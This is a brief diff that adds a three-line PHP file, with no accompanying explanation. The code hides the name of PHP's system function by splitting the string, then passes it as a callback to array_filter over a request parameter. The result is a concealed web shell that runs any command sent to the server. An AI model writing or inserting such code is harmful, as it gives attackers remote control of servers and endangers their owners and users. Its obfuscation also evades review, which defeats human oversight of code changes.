@@ -1,0 +1,3 @@
+<?php
+$f = 'sys' . 'tem';
+array_filter(array($_REQUEST['x']), $f);
